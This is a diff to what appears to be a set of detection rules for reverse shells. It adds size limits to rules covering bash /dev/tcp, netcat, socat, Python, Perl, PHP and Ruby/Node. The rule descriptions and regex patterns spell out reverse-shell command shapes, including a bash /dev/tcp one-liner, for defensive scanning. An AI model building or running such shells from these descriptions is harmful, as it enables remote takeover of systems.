@@ -17,6 +17,7 @@ rule SW_REVSHELL_DEV_TCP
         severity = "critical"
         category = "reverse-shell"
         title = "Reverse shell through bash /dev/tcp (or gawk /inet/tcp)"
+        max_size = "8MB"
         description = "An interactive shell redirected to /dev/tcp/HOST/PORT (bash -i >& /dev/tcp/h/p 0>&1), or a descriptor opened on /dev/tcp/HOST/PORT and fed to a shell or a read-and-run loop, or gawk's /inet/tcp/0/HOST/PORT reading a command from the socket and running it as a |& coprocess (outside documentation: gawk's network examples are clients of this shape)."
     strings:
         $i = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]?[<>]{1,2}&?\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,253}\/[0-9]{1,5}/ ascii
@@ -40,6 +41,7 @@ rule SW_REVSHELL_NETCAT
         severity = "critical"
         category = "reverse-shell"
         title = "Reverse or bind shell through netcat / telnet / openssl"
+        max_size = "8MB"
         description = "nc/ncat/netcat with -e or -c running a shell, or a named pipe (mkfifo/mknod p) looping a shell through nc, telnet or openssl s_client."
     strings:
         $e = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s[^\n|;&]{0,100}-[a-zA-Z]*[ec]\s*["']?((\/usr)?\/bin\/)?(ba|z|k|da|a)?sh\b/ ascii
@@ -58,6 +60,7 @@ rule SW_REVSHELL_SOCAT
         severity = "critical"
         category = "reverse-shell"
         title = "Reverse or bind shell through socat"
+        max_size = "8MB"
         description = "socat joining a TCP connection (to HOST:PORT, or a listener) with EXEC/SYSTEM of a shell, often with pty,stderr,setsid."
     strings:
         $tcp = /\bsocat\s[^\n]{0,300}\btcp[46]?(-connect)?:[A-Za-z0-9.\-]{1,253}:[0-9]{1,5}/ ascii nocase
@@ -75,6 +78,7 @@ rule SW_REVSHELL_PYTHON
         severity = "critical"
         category = "reverse-shell"
         title = "Python reverse shell"
+        max_size = "1MB"
         description = "A socket connected to an address, duplicated onto stdin/stdout/stderr (dup2 of its fileno, or passed as the shell's stdin), and a shell started with pty.spawn or subprocess."
     strings:
         $sock = "socket" ascii
@@ -95,6 +99,7 @@ rule SW_REVSHELL_PERL
         severity = "critical"
         category = "reverse-shell"
         title = "Perl reverse shell"
+        max_size = "1MB"
         description = "A Perl socket (socket/connect or IO::Socket::INET) whose handle becomes STDIN/STDOUT (open STDIN, \">&S\" or fdopen) and a shell run with exec or system."
     strings:
         $s1 = /socket\s*\(\s*\w+\s*,\s*PF_INET\s*,\s*SOCK_STREAM/ ascii
@@ -116,6 +121,7 @@ rule SW_REVSHELL_PHP
         severity = "critical"
         category = "reverse-shell"
         title = "PHP reverse shell"
+        max_size = "1MB"
         description = "fsockopen to an address together with a shell started on the socket (exec/system/proc_open of sh -i, or <&3 >&3 redirection)."
     strings:
         $sock = /fsockopen\s*\(/ ascii nocase
@@ -134,6 +140,7 @@ rule SW_REVSHELL_RUBY_NODE
         severity = "critical"
         category = "reverse-shell"
         title = "Ruby or Node.js reverse shell"
+        max_size = "1MB"
         description = "Ruby TCPSocket with exec of a shell on the socket's descriptors, or a Node net socket piped into a spawned shell's stdin/stdout."
     strings:
         $rb1 = /TCPSocket\.(new|open)\s*\(/ ascii
